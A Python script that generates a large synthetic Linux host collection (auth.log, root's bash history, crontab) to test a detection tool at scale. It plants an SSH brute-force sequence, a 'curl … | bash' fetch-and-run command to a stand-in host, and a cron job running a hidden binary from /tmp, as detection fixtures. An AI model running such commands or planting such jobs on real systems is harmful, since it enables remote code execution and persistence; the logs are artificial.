#!/usr/bin/env python3
"""Generates a Linux triage collection of any size for detection at scale.

The collection is laid out like a host's root filesystem:

- var/log/auth.log (and, past 2,000,000 lines, rotated auth.log.1, auth.log.2, … holding
  the older lines, as logrotate leaves them): --events sshd and cron lines, in time order
  (three in four become events) (public-key logons from a pool
  of internal addresses, sessions opening and closing, cron sessions), in time order;
- root/.bash_history: everyday commands;
- var/spool/cron/crontabs/root: an ordinary job.

Three attacks are planted among them, each of which Riposte must still find:

1. an SSH brute force from 203.0.113.66 (60 failed passwords for root, then an
   accepted password for root from the same address), in the middle of the log;
2. `curl -s http://198.51.100.7/x.sh | bash` in root's shell history;
3. a cron job running a binary from /tmp (`* * * * * /tmp/.cache/kworker`).

Usage: generate_timeline.py --events 10000000 --out /tmp/big-host
"""

import argparse
import datetime
import os
import random

BRUTE_SOURCE = "203.0.113.66"
PER_FILE = 2_000_000
PLANTED_COMMAND = "curl -s http://198.51.100.7/x.sh | bash"
PLANTED_CRON = "* * * * * /tmp/.cache/kworker"


def syslog_time(t):
    """Syslog's time: `Mar  1 00:00:00` (the day padded with a space)."""
    return f"{t.strftime('%b')} {t.day:>2} {t.strftime('%H:%M:%S')}"


def auth_lines(events, rng):
    """About `events` auth.log lines, the brute force planted halfway."""
    start = datetime.datetime(2024, 3, 1, 0, 0, 0)
    # Spread over four weeks whatever the size, so the log stays in one year.
    step = datetime.timedelta(days=28) / max(events, 1)
    planted_at = events // 2
    pid = 1000
    n = 0
    while n < events:
        t = start + step * n
        stamp = syslog_time(t)
        if n == planted_at:
            for i in range(60):
                bt = syslog_time(t + datetime.timedelta(seconds=i))
                yield (
                    f"{bt} web1 sshd[{pid}]: Failed password for root from {BRUTE_SOURCE} "
                    f"port {40000 + i} ssh2\n"
                )
            bt = syslog_time(t + datetime.timedelta(seconds=61))
            yield (
                f"{bt} web1 sshd[{pid + 1}]: Accepted password for root from {BRUTE_SOURCE} "
                "port 40999 ssh2\n"
            )
            n += 61
            continue
        pid = 1000 + (n % 30000)
        kind = n % 4
        if kind == 0:
            ip = f"10.0.{rng.randrange(0, 8)}.{rng.randrange(1, 255)}"
            user = ("deploy", "backup", "monitor")[n % 3]
            yield (
                f"{stamp} web1 sshd[{pid}]: Accepted publickey for {user} from {ip} "
                f"port {rng.randrange(1024, 65535)} ssh2: RSA SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG\n"
            )
        elif kind == 1:
            user = ("deploy", "backup", "monitor")[n % 3]
            yield f"{stamp} web1 sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)\n"
        elif kind == 2:
            user = ("deploy", "backup", "monitor")[n % 3]
            yield f"{stamp} web1 sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}\n"
        else:
            yield f"{stamp} web1 CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n"
        n += 1


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, required=True, help="auth.log lines (about the events)")
    parser.add_argument("--out", required=True, help="the collection folder to write")
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    root = args.out
    for folder in ("etc", "var/log", "root", "var/spool/cron/crontabs"):
        os.makedirs(os.path.join(root, folder), exist_ok=True)
    with open(os.path.join(root, "etc/hostname"), "w") as f:
        f.write("web1\n")
    # Files of at most PER_FILE lines, oldest first; renamed once their number is known.
    parts = []
    out = None
    written = PER_FILE
    for line in auth_lines(args.events, rng):
        if written == PER_FILE:
            if out:
                out.close()
            parts.append(os.path.join(root, f"var/log/auth.part{len(parts)}"))
            out = open(parts[-1], "w", buffering=1 << 20)
            written = 0
        out.write(line)
        written += 1
    if out:
        out.close()
    for age, part in enumerate(reversed(parts)):
        name = "auth.log" if age == 0 else f"auth.log.{age}"
        os.replace(part, os.path.join(root, "var/log", name))
    with open(os.path.join(root, "root/.bash_history"), "w") as f:
        for cmd in ("ls -la", "cd /var/www", "git pull", "systemctl status nginx", PLANTED_COMMAND, "df -h"):
            f.write(cmd + "\n")
    with open(os.path.join(root, "var/spool/cron/crontabs/root"), "w") as f:
        f.write("0 3 * * * /usr/local/bin/backup.sh\n")
        f.write(PLANTED_CRON + "\n")


if __name__ == "__main__":
    main()
